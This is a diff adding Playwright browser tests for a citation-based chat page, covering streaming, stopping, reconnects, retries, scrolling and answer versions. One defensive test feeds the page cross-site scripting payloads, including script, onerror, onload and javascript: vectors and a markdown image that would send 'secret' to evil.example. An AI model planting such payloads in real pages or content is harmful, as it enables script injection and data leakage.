@@ -1,0 +1,169 @@
+# ruff: noqa: E501 - frames and rows of data, one to a line
+"""The chat page against a scripted server."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.double import CITATIONS, PASSAGE, SOURCES, TEXT, TURN, Double
+
+HOSTILE = (
+    "<script>window.fired=1</script><img src=x onerror='window.fired=1'> ![leak](https://evil.example/?q=secret) "
+    "[click](javascript:window.fired=1) <svg onload='window.fired=1'></svg> [1]"
+)
+
+
+def test_an_answer_streams_in_and_its_mark_opens_the_passage(page: Any, double: Double) -> None:
+    page.goto("/")
+    double.ask()
+    double.answer()
+    page.locator(".cite").first.click()
+    expect(page.locator("#source-panel mark")).to_have_text("Up to five days of unused leave may be\ncarried over")
+    expect(page.locator("#source-panel")).to_contain_text("Page 12 of 48")
+    expect(page.locator("#source-panel")).to_contain_text("Everybody has 28 days")
+    assert page.problems == []
+
+
+def test_escape_stops_the_answer(page: Any, double: Double) -> None:
+    page.goto("/")
+    double.ask()
+    double.answer(done="")
+    page.keyboard.press("Escape")
+    page.wait_for_timeout(100)
+    assert {"type": "stop", "turn": TURN} in double.received
+
+
+def test_a_stopped_answer_can_be_continued(page: Any, double: Double) -> None:
+    page.goto("/")
+    double.ask()
+    double.answer(done="stopped")
+    page.get_by_role("button", name="Continue").click()
+    page.wait_for_timeout(100)
+    assert double.kinds()[-1] == "continue"
+    double.frame("text", text="And more.")
+    expect(page.locator(".assistant .prose")).to_contain_text("Yes. You may carry")
+    expect(page.locator(".assistant .prose")).to_contain_text("And more.")
+
+
+def test_after_a_broken_line_the_turn_resumes_where_it_was(page: Any, double: Double) -> None:
+    page.goto("/")
+    double.ask()
+    double.answer(text="First. ", done="")
+    seen = double.seq
+    double.sockets[-1].close(code=1011)
+    page.wait_for_function("document.getElementById('notice').hidden === false")
+    for _ in range(60):
+        page.wait_for_timeout(50)
+        if double.kinds()[-1] == "resume":
+            break
+    assert double.received[-1] == {"type": "resume", "turn": TURN, "after": seen}
+    double.send({"type": "text", "turn": TURN, "seq": seen, "text": "First. "})
+    double.frame("text", text="Second.")
+    double.finish()
+    assert page.locator(".assistant .prose").inner_text().strip() == "First. Second."
+
+
+def test_a_failed_answer_says_why_and_can_be_tried_again(page: Any, double: Double) -> None:
+    page.goto("/")
+    double.ask()
+    double.frame("error", code="engine_dead", message="The model stopped working.", advice="Try again.", retryable=True)
+    double.finish("failed")
+    expect(page.locator(".notice.problem")).to_contain_text("The model stopped working.")
+    page.get_by_role("button", name="Try again").click()
+    page.wait_for_timeout(100)
+    assert double.kinds()[-1] == "regenerate"
+
+
+def test_a_refused_question_is_told_and_the_box_is_free_again(page: Any, double: Double) -> None:
+    page.goto("/")
+    double._message = lambda frame: (
+        frame["type"] == "ask"
+        and double.send(  # type: ignore[method-assign]
+            {
+                "type": "error",
+                "id": frame["id"],
+                "code": "busy",
+                "message": "Too many answers.",
+                "advice": "Wait.",
+                "retryable": True,
+            }
+        )
+    )
+    page.get_by_label("Your question").fill("Anything?")
+    page.keyboard.press("Enter")
+    expect(page.locator("#notice")).to_contain_text("Too many answers. Wait.")
+    expect(page.get_by_label("Send")).to_be_visible()
+
+
+def test_a_hostile_answer_title_name_and_passage_fire_nothing(page: Any, double: Double) -> None:
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    double.passage = {**PASSAGE, "text": HOSTILE, "heading": HOSTILE, "download": "javascript:window.fired=1",
+                      "document": {**PASSAGE["document"], "name": HOSTILE, "title": HOSTILE}}  # fmt: skip
+    double.conversations = [{"id": TURN, "title": HOSTILE, "updated_at": "2026-11-21T00:00:00Z"}]
+    page.goto("/")
+    double.ask(HOSTILE)
+    double.frame("sources", sources=[{**SOURCES[0], "document": {"id": "x", "name": HOSTILE}, "heading": HOSTILE}])
+    double.frame("writer", engine=HOSTILE, note=HOSTILE)
+    double.frame("text", text=HOSTILE)
+    double.frame("citations", citations=[{**CITATIONS[0], "quote": HOSTILE}])
+    double.frame("done", status="complete", engine=HOSTILE, usage={}, timings={}, title=HOSTILE)
+    page.locator(".cite").first.click()
+    expect(page.locator("#source-panel .passage")).to_contain_text("window.fired")
+    assert page.evaluate("window.fired") is None
+    assert page.locator(".message img, .message script, .message svg[onload], .source-panel img").count() == 0
+    assert not [url for url in asked if "evil.example" in url]
+    assert page.locator("a[href^='javascript']").count() == 0
+    assert page.problems == []
+
+
+def test_the_reader_who_scrolled_up_stays_there(page: Any, double: Double) -> None:
+    page.goto("/")
+    double.ask()
+    double.answer(text="\n\n".join(f"Paragraph {n}." for n in range(80)), done="")
+    expect(page.locator(".assistant .prose")).to_contain_text("Paragraph 79.")
+    page.locator("#scroller").evaluate("node => node.scrollTop = 100")
+    expect(page.locator("#jump")).to_be_visible()
+    double.frame("text", text="\n\nThe last words.")
+    expect(page.locator(".assistant .prose")).to_contain_text("The last words.")
+    assert page.locator("#scroller").evaluate("node => node.scrollTop") == 100
+    page.locator("#jump").click()
+    expect(page.locator("#jump")).to_be_hidden()
+
+
+def test_a_draft_survives_a_reload(page: Any, double: Double) -> None:
+    page.goto("/")
+    page.get_by_label("Your question").fill("Half a thought")
+    page.reload()
+    expect(page.get_by_label("Your question")).to_have_value("Half a thought")
+
+
+def test_versions_of_an_answer_can_be_switched(page: Any, double: Double) -> None:
+    base = {
+        "role": "assistant",
+        "parent": "q",
+        "status": "complete",
+        "engine": "m",
+        "sources": SOURCES,
+        "citations": CITATIONS,
+    }
+    double.detail = {"id": TURN, "title": "Leave", "running": [], "messages": [
+        {"id": "q", "parent": None, "role": "user", "text": "May I?", "status": "complete"},
+        {**base, "id": "a1", "text": "First version"}, {**base, "id": "a2", "text": TEXT},
+    ]}  # fmt: skip
+    double.conversations = [{"id": TURN, "title": "Leave", "updated_at": "2026-11-21T00:00:00Z"}]
+    page.goto("/")
+    page.get_by_role("link", name="Leave").click()
+    expect(page.locator(".switcher")).to_contain_text("2 / 2")
+    page.get_by_role("button", name="Earlier version").click()
+    expect(page.locator(".assistant .prose")).to_have_text("First version")
+
+
+@pytest.mark.parametrize("path", ["/documents/", "/nothing-here/", "/accounts/logout/"])
+def test_no_page_breaks_its_own_security_policy(page: Any, double: Double, path: str) -> None:
+    page.goto(path)
+    page.wait_for_timeout(200)
+    assert [text for text in page.problems if "Content Security Policy" in text or "Error:" in text] == []
